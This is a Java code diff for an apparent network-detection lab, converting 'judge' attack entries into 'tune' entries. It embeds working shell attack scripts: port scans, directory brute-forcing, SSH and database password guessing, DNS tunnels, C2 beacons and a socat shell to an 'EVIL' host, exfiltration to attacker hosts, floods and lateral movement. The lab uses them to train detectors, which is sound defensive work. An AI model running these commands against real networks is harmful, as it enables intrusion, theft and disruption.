@@ -20,14 +20,14 @@ import dev.weir.standalone.lab.LabAttack.Listener;
 import java.util.ArrayList;
 import java.util.List;
 
-/** The attacks of the lab: one half by some tools and configurations, the other half by others. */
+/** The attacks that detectors are tuned on; {@link JudgingAttacks} are by other tools and configurations. */
 final class LabAttacks {
     private static final String TLS_END = "exec socat -T 60 openssl-listen:%d,fork,reuseaddr,cert=$FOLDER/tls.crt,"
             + "key=$FOLDER/tls.key,verify=0 system:'echo ok'";
     private static final String HTTP_END =
             "exec ncat -lk $%s %d -c 'read line; printf \"HTTP/1.0 200 OK\\r\\nContent-Length: 4\\r\\n\\r\\nnone\"'";
-    private static final String SINK = "exec socat -u tcp-listen:%d,fork,reuseaddr open:/dev/null";
-    private static final String WORDS = """
+    static final String SINK = "exec socat -u tcp-listen:%d,fork,reuseaddr open:/dev/null";
+    static final String WORDS = """
             for i in $(seq %d); do echo "$(printf %%x $((i * 7919)))"; done > $FOLDER/words-$$
             printf 'admin\\nlogin\\nbackup\\n.git\\nconfig\\n' >> $FOLDER/words-$$
             """;
@@ -45,16 +45,15 @@ final class LabAttacks {
         lateral();
     }
 
+    /** The attacks of both halves. */
     static List<LabAttack> all() {
-        return List.copyOf(new LabAttacks().attacks);
+        List<LabAttack> all = new ArrayList<>(new LabAttacks().attacks);
+        all.addAll(JudgingAttacks.all());
+        return all;
     }
 
     private void tune(String name, String tool, LabHost attacker, int stretch, String script, Listener... listeners) {
         attacks.add(new LabAttack(name, tool, false, attacker, stretch, List.of(listeners), script));
-    }
-
-    private void judge(String name, String tool, LabHost attacker, int stretch, String script, Listener... listeners) {
-        attacks.add(new LabAttack(name, tool, true, attacker, stretch, List.of(listeners), script));
     }
 
     private void scans() {
@@ -71,51 +70,51 @@ final class LabAttacks {
                 "nmap -n -Pn -sV --version-light -p 21-25,80,443,3306,5432,6379 $WEBB");
         tune("scan-nmap-outside", "nmap", SCANNER, 1, "nmap -n -Pn -sS -p 1-300 -T4 $WEB");
         tune("scan-nmap-ping", "nmap", ORDERS, 1, "nmap -n -sn -PE --disable-arp-ping 10.60.7.0/26 10.60.8.0/27");
-        judge("scan-hping-vertical", "hping3", ORDERS, 1, "hping3 -n --scan 1-150 -S $CACHE");
-        judge(
+        tune("scan-hping-vertical", "hping3", ORDERS, 1, "hping3 -n --scan 1-150 -S $CACHE");
+        tune(
                 "scan-ncat-slow",
                 "ncat",
                 CI,
                 60,
                 "for p in $(seq 20 95); do timeout 1 ncat -z -w 300ms $DB $p; sleep 0.3; done");
-        judge(
+        tune(
                 "scan-bash-horizontal",
                 "bash",
                 JOB,
                 1,
                 "for i in $(seq 1 60); do timeout 0.2 bash -c \"</dev/tcp/10.60.8.$i/5432\"; done");
-        judge(
+        tune(
                 "scan-curl-refused",
                 "curl",
                 API,
                 1,
                 "for i in $(seq 1 70); do curl -s -m 0.3 http://10.60.7.$i:9200/; sleep 0.05; done");
-        judge(
+        tune(
                 "scan-hping-udp",
                 "hping3",
                 WEB,
                 1,
                 "for p in $(seq 100 160); do hping3 -n -q -2 -c 1 -p $p $ORDERS; done");
-        judge(
+        tune(
                 "scan-ncat-outside",
                 "ncat",
                 EVILB,
                 1,
                 "for p in $(seq 1 120); do timeout 1 ncat -z -w 300ms $WEBB $p; done");
-        judge(
+        tune(
                 "scan-curl-new",
                 "curl",
                 NEW,
                 1,
                 "for h in $WEB $WEBB $API $DB $CACHE $BROKER; do for p in 22 80 443 3306 5432 6379 8080 9090 9200; do curl -s"
                         + " -m 0.4 telnet://$h:$p </dev/null; done; done");
-        judge(
+        tune(
                 "scan-hping-ping",
                 "hping3",
                 SENSOR,
                 1,
                 "for i in $(seq 1 60); do timeout 0.2 hping3 -n -q -1 -c 1 10.60.8.$i; done");
-        judge(
+        tune(
                 "scan-bash-day",
                 "bash",
                 OPS,
@@ -136,19 +135,19 @@ final class LabAttacks {
                 USERC,
                 30,
                 WORDS.formatted(100) + "ffuf -s -t 1 -p 0.25 -u http://$WEBB/FUZZ -w $FOLDER/words-$$");
-        judge(
+        tune(
                 "http-recon-gobuster",
                 "gobuster",
                 JOB,
                 1,
                 WORDS.formatted(400) + "gobuster dir -q -t 8 -u http://$API:8080 -w $FOLDER/words-$$");
-        judge(
+        tune(
                 "http-recon-dirb",
                 "dirb",
                 EVILA,
                 5,
                 WORDS.formatted(150) + "dirb http://$WEB $FOLDER/words-$$ -S -r -z 50");
-        judge(
+        tune(
                 "http-recon-curl",
                 "curl",
                 CI,
@@ -177,26 +176,26 @@ final class LabAttacks {
                 1,
                 passwords.formatted(200)
                         + "timeout 50 hydra -q -t 8 -l admin -P $FOLDER/guesses-$$ http-get://$WEB/admin/");
-        judge(
+        tune(
                 "bruteforce-medusa-ssh",
                 "medusa",
                 CI,
                 3,
                 passwords.formatted(40) + "timeout 50 medusa -h $API -u root -P $FOLDER/guesses-$$ -M ssh -t 2");
-        judge(
+        tune(
                 "bruteforce-sshpass-slow",
                 "sshpass",
                 NEW,
                 30,
                 "for i in $(seq 25); do timeout 5 sshpass -p guess$i ssh -o PubkeyAuthentication=no"
                         + " -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@$ORDERS true; sleep 0.5; done");
-        judge(
+        tune(
                 "bruteforce-psql",
                 "psql",
                 API,
                 1,
                 "for i in $(seq 80); do PGPASSWORD=guess$i psql -q -h $DB -U admin -c '' postgres; done");
-        judge(
+        tune(
                 "bruteforce-curl",
                 "curl",
                 EVILA,
@@ -216,7 +215,7 @@ final class LabAttacks {
                 wait
                 """,
                 new Listener(EVILA, "exec iodined -f -c -P secret -d dnss 10.99.0.1/24 tunnel.example"));
-        judge("dns-tunnel-dns2tcp", "dns2tcpc", CI, 10, """
+        tune("dns-tunnel-dns2tcp", "dns2tcpc", CI, 10, """
                 timeout 25 dns2tcpc -z relay.example -k secret -r shell -l 2222 $DNS & sleep 2
                 for i in $(seq 8); do head -c 1500 /dev/urandom | timeout 4 ncat 127.0.0.1 2222; done
                 wait
@@ -226,7 +225,7 @@ final class LabAttacks {
                         socat tcp-listen:7777,fork,reuseaddr system:'head -c 3000 /dev/urandom' &
                         exec dns2tcpd -F -f $FOLDER/dns2tcpd.conf
                         """));
-        judge(
+        tune(
                 "dns-tunnel-dig",
                 "dig",
                 SENSOR,
@@ -251,7 +250,7 @@ final class LabAttacks {
         tune("c2-dead-refused", "ncat", ORDERS, 20, knocks("$EVILA", 1_177, 110, 500, 5));
         tune("c2-dead-silent", "ncat", API, 30, knocks("10.60.8.77", 8_081, 70, 600, 20));
         tune("c2-inside-even", "curl", WEBB, 60, beacon("http://$NEW:9001/", 80, 700, 10), httpEnd(NEW, 9_001));
-        judge(
+        tune(
                 "c2-socat-shell",
                 "socat",
                 SENSOR,
@@ -261,7 +260,7 @@ final class LabAttacks {
                         EVILB,
                         "(for i in $(seq 20); do sleep $((RANDOM % 3 + 1)); echo 'uname -a; ps'; done; echo exit)"
                                 + " | socat - tcp-listen:9443,reuseaddr"));
-        judge(
+        tune(
                 "c2-bash-beacon",
                 "bash",
                 JOB,
@@ -273,20 +272,20 @@ final class LabAttacks {
                 done
                 """,
                 new Listener(EVILB, "exec ncat -lk $EVILB 443 -c 'read x; echo pong'"));
-        judge(
+        tune(
                 "c2-wide-jitter",
                 "curl",
                 API,
                 60,
                 beacon("http://$EVILA:80/feed", 80, 800, 60),
                 new Listener(EVILA, HTTP_END.formatted("EVILA", 80)));
-        judge("c2-dead-bash", "bash", CI, 25, """
+        tune("c2-dead-bash", "bash", CI, 25, """
                 for i in $(seq 150); do timeout 0.3 bash -c "</dev/tcp/$EVILB/6667"; sleep 0.$((300 + RANDOM % 150)); done
                 """);
-        judge("c2-dead-curl", "curl", ORDERS, 40, """
+        tune("c2-dead-curl", "curl", ORDERS, 40, """
                 for i in $(seq 60); do curl -s -m 0.3 http://192.0.2.77:443/; sleep 0.6; done
                 """);
-        judge(
+        tune(
                 "c2-inside-ncat",
                 "ncat",
                 SENSOR,
@@ -295,7 +294,7 @@ final class LabAttacks {
                 for i in $(seq 75); do echo hello | timeout 1 ncat $NEW 7001; sleep 0.$((550 + RANDOM % 250)); done
                 """,
                 new Listener(NEW, "exec ncat -lk $NEW 7001 -c 'read x; echo pong'"));
-        judge(
+        tune(
                 "c2-lasting",
                 "openssl",
                 OPS,
@@ -328,7 +327,7 @@ final class LabAttacks {
                 JOB,
                 1,
                 "for i in 1 2 3 4; do psql -q -h $DB -U postgres -c '\\copy pgbench_accounts to /dev/null' postgres; done");
-        judge(
+        tune(
                 "exfil-scp",
                 "ssh",
                 BASTION,
@@ -339,14 +338,14 @@ final class LabAttacks {
                         exec $(command -v sshd) -D -e -f /dev/null -h $FOLDER/host_key -o UsePAM=no -o StrictModes=no \\
                           -o PermitRootLogin=yes -o PidFile=none -o AuthorizedKeysFile=$FOLDER/key.pub -o Subsystem='sftp internal-sftp'
                         """));
-        judge(
+        tune(
                 "exfil-socat-drip",
                 "socat",
                 SENSOR,
                 120,
                 "for i in $(seq 45); do head -c 1200000 /dev/urandom | timeout 2 socat -u - tcp:$EVILA:8080; sleep 0.6; done",
                 new Listener(EVILA, SINK.formatted(8_080)));
-        judge(
+        tune(
                 "exfil-redis-pull",
                 "redis-cli",
                 CI,
@@ -355,7 +354,7 @@ final class LabAttacks {
                 new Listener(
                         LabHost.CACHE,
                         "head -c 60000000 /dev/urandom | redis-cli -h $CACHE -x set loot >/dev/null; sleep 60"));
-        judge(
+        tune(
                 "exfil-rsync-pull",
                 "rsync",
                 NEW,
@@ -367,14 +366,14 @@ final class LabAttacks {
     private void floods() {
         tune("ddos-hping-syn", "hping3", NEW, 1, "hping3 -n -q -S -c 8000 -i u300 -p 80 $WEB");
         tune("ddos-ab-http", "ab", SCANNER, 1, "ab -q -n 4000 -c 40 http://$WEB/index.html");
-        judge("ddos-wrk-http", "wrk", EVILB, 1, "wrk -t 1 -c 60 -d 6s -H 'Connection: close' http://$WEBB/index.html");
-        judge(
+        tune("ddos-wrk-http", "wrk", EVILB, 1, "wrk -t 1 -c 60 -d 6s -H 'Connection: close' http://$WEBB/index.html");
+        tune(
                 "ddos-ncat-udp",
                 "socat",
                 JOB,
                 1,
                 "head -c 12000000 /dev/zero | timeout 20 socat -u -b 1000 - udp-datagram:$CACHE:7000");
-        judge("ddos-bash-connect", "bash", API, 1, """
+        tune("ddos-bash-connect", "bash", API, 1, """
                 for j in 1 2 3 4; do (for i in $(seq 600); do timeout 0.5 bash -c "</dev/tcp/$CACHE/6379"; done) & done; wait
                 """);
     }
@@ -385,18 +384,18 @@ final class LabAttacks {
                   timeout 9 ssh $SSH root@$h 'for i in 1 2 3 4; do id; sleep 1; done'; sleep 1
                 done
                 """);
-        judge("lateral-scp-exec", "scp", SENSOR, 20, """
+        tune("lateral-scp-exec", "scp", SENSOR, 20, """
                 for h in $API $ORDERS $WEBB $BASTION; do
                   scp $SSH $FOLDER/tls.crt root@$h:/dev/null; timeout 9 ssh $SSH root@$h 'sleep 2; uname -a'; sleep 1
                 done
                 """);
-        judge("lateral-pod-to-apiserver", "curl", NEW, 5, """
+        tune("lateral-pod-to-apiserver", "curl", NEW, 5, """
                 for i in $(seq 25); do curl -sk https://$KAPI:6443/api/v1/secrets?$i; sleep 0.2; done
                 """);
     }
 
     /** A script that polls a URL with even pauses, or with pauses that vary by a share. */
-    private static String beacon(String url, int times, int pauseMs, int jitterPercent) {
+    static String beacon(String url, int times, int pauseMs, int jitterPercent) {
         return "for i in $(seq " + times + "); do curl -sk -m 2 -o /dev/null " + url + "; "
                 + pause(pauseMs, jitterPercent) + "; done";
     }
@@ -407,13 +406,13 @@ final class LabAttacks {
                 + pause(pauseMs, jitterPercent) + "; done";
     }
 
-    private static String pause(int ms, int jitterPercent) {
+    static String pause(int ms, int jitterPercent) {
         int range = ms * jitterPercent / 100 * 2 + 1;
         return "ms=$((" + (ms - range / 2) + " + RANDOM % " + range
                 + ")); sleep $((ms / 1000)).$(printf %03d $((ms % 1000)))";
     }
 
-    private static Listener tlsEnd(LabHost host, int port) {
+    static Listener tlsEnd(LabHost host, int port) {
         return new Listener(host, TLS_END.formatted(port));
     }
 
